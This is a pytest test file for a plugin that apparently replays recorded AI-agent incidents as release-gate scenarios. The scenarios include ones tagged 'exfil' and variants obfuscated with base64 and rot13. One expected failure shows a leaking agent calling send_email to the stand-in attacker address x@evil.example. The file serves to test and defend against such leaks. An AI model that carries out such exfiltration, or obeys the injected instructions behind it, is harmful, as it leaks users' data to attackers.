"""The pytest plugin: scenarios and suites as items, failure output, reports, shards, workers."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from regression_suite.runner import shard_of
from tests.regression_suite._library import AGENT_SOURCE, scenario, variant, write, write_suite

pytest_plugins = ["pytester"]


@pytest.fixture
def project(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> pytest.Pytester:
    """A project with scenarios/ (3 scenarios, 1 variant), a release_gate suite and agents."""
    monkeypatch.delenv("INCIDENT_LAB_SCENARIOS", raising=False)
    lib = write(
        pytester.path / "scenarios",
        scenario("inc-0", severity="SEV-3"),
        scenario("inc-1", severity="SEV-1", tags=["exfil"]),
        scenario("inc-2"),
        variant("inc-2.v1", "inc-2", ["base64", "rot13"]),
    )
    write_suite(
        lib, "release_gate", "name: release_gate\nselect: {status: [gated]}\nvariants: all\n"
    )
    (pytester.path / "agents.py").write_text(
        AGENT_SOURCE + "\n\nasync def arefuse(replay):\n    return refuse(replay)\n", "utf-8"
    )
    pytester.syspathinsert()
    return pytester


def test_pytest_scenarios_collects_one_readable_item_per_scenario_variant_and_repeat(
    project: pytest.Pytester,
) -> None:
    result = project.runpytest(
        "scenarios/", "--target", "python:agents:refuse", "--repeats", "2", "--collect-only", "-q"
    )
    lines = [line for line in result.outlines if "::" in line]
    assert lines == [
        "scenarios/inc-0.yaml::inc-0#1",
        "scenarios/inc-0.yaml::inc-0#2",
        "scenarios/inc-1.yaml::inc-1#1",
        "scenarios/inc-1.yaml::inc-1#2",
        "scenarios/inc-2.yaml::inc-2#1",
        "scenarios/inc-2.yaml::inc-2#2",
        "scenarios/variants/inc-2.v1.yaml::inc-2[base64+rot13]#1",
        "scenarios/variants/inc-2.v1.yaml::inc-2[base64+rot13]#2",
    ]


def test_suite_option_collects_the_suite_and_a_safe_target_passes(project: pytest.Pytester) -> None:
    result = project.runpytest("--suite", "release_gate", "--target", "python:agents:refuse", "-v")
    result.assert_outcomes(passed=4)
    result.stdout.fnmatch_lines(["*release_gate.yaml::inc-2?base64+rot13? PASSED*"])


def test_failures_show_the_expectation_message_and_the_diff(project: pytest.Pytester) -> None:
    result = project.runpytest("--suite", "release_gate", "--target", "python:agents:leak_some")
    result.assert_outcomes(passed=3, failed=1)
    result.stdout.fnmatch_lines(
        [
            "*scenario inc-1*",
            "inc-1: Test scenario inc-1",
            "  no_tool_call: step 1: forbidden tool call send_email*",
            "difference from the recorded incident:",
            "  step 0 message system: recorded content=You are a mail assistant., produced (absent)",
            "  step 1 (recorded step 4) tool_call send_email: recorded to=<EMAIL_1>, produced to=x@evil.example",
        ]
    )
    assert "Traceback" not in result.stdout.str()


def test_target_errors_and_invalid_trajectories_are_pytest_errors(project: pytest.Pytester) -> None:
    result = project.runpytest("scenarios/inc-0.yaml", "--target", "python:agents:invalid")
    result.assert_outcomes(errors=1)
    result.stdout.fnmatch_lines(["*invalid trajectory: steps/0*"])
    result = project.runpytest("scenarios/inc-0.yaml", "--target", "python:agents:crash")
    result.assert_outcomes(errors=1)
    result.stdout.fnmatch_lines(["*agent crashed*"])


def test_gate_report_dir_writes_the_report_with_the_verdict(project: pytest.Pytester) -> None:
    result = project.runpytest(
        "--suite", "release_gate", "--target", "python:agents:leak_some", "--gate-report-dir", "out"
    )
    result.stdout.fnmatch_lines(["gate: BLOCK*", "gate report: *report.json"])
    report = json.loads((project.path / "out" / "report.json").read_text("utf-8"))
    assert report["verdict"] == "BLOCK" and report["exit_code"] == 2
    assert [i["id"] for i in report["items"]] == ["inc-0", "inc-1", "inc-2", "inc-2[base64+rot13]"]
    assert report["items"][1]["outcome"] == "failed"


def test_ordinary_runs_ignore_yaml_and_scenarios_unless_named(project: pytest.Pytester) -> None:
    """YAML in tests/ is never opened; a bare `pytest` does not collect scenarios/."""
    tests = project.mkdir("tests")
    (tests / "data.yaml").write_text("not: [valid yaml", "utf-8")
    (tests / "test_ok.py").write_text("def test_ok():\n    pass\n", "utf-8")
    project.runpytest("tests").assert_outcomes(passed=1)
    result = project.runpytest()
    result.assert_outcomes(passed=1)


def test_invalid_scenario_file_is_a_one_line_collection_error(project: pytest.Pytester) -> None:
    (project.path / "scenarios" / "bad.yaml").write_text("id: [unclosed\n", "utf-8")
    result = project.runpytest("scenarios/", "--target", "python:agents:refuse")
    result.stdout.fnmatch_lines(["*bad.yaml:*YAML*"])
    assert result.ret == pytest.ExitCode.INTERRUPTED


def test_missing_target_and_bad_shard_are_usage_errors(project: pytest.Pytester) -> None:
    result = project.runpytest("scenarios/")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines(["*no target*--target*"])
    result = project.runpytest("scenarios/", "--target", "recorded", "--shard", "3/2")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    assert project.runpytest("--suite", "nope").ret == pytest.ExitCode.USAGE_ERROR


def test_shards_split_the_items_and_k_selects_by_tag(project: pytest.Pytester) -> None:
    counts = []
    for i in (1, 2):
        result = project.runpytest(
            "scenarios/", "--target", "python:agents:refuse", "--shard", f"{i}/2"
        )
        counts.append(result.parseoutcomes())
    groups = ["inc-0", "inc-1", "inc-2", "inc-2[base64+rot13]"]
    expected = [sum(shard_of(g, 2) == i for g in groups) for i in (1, 2)]
    assert [c.get("passed", 0) for c in counts] == expected  # by the SHA-256 of the case ids
    assert [c.get("deselected", 0) for c in counts] == expected[::-1]
    result = project.runpytest("scenarios/", "--target", "python:agents:refuse", "-k", "exfil")
    result.assert_outcomes(passed=1, deselected=3)


def test_async_targets_are_replayed_concurrently_then_reported_per_item(
    project: pytest.Pytester,
) -> None:
    result = project.runpytest(
        "--suite", "release_gate", "--target", "python:agents:arefuse", "--concurrency", "4"
    )
    result.assert_outcomes(passed=4)


def test_unreachable_target_stops_the_run_without_a_verdict(project: pytest.Pytester) -> None:
    result = project.runpytest(
        "--suite",
        "release_gate",
        "--target",
        "http://127.0.0.1:9/agent",
        "--gate-report-dir",
        "out",
    )
    result.stdout.fnmatch_lines(["*gate: no verdict: *unreachable*"])
    assert not (project.path / "out" / "report.json").exists()


def test_xdist_workers_send_their_items_back_for_one_report(
    project: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTHONPATH", str(project.path))  # the workers import the agents too
    result = project.runpytest_subprocess(
        "--suite",
        "release_gate",
        "--target",
        "python:agents:leak_some",
        "-n",
        "2",
        "--gate-report-dir",
        "out",
    )
    result.assert_outcomes(passed=3, failed=1)
    report = json.loads((Path(project.path) / "out" / "report.json").read_text("utf-8"))
    assert len(report["items"]) == 4 and report["verdict"] == "BLOCK"
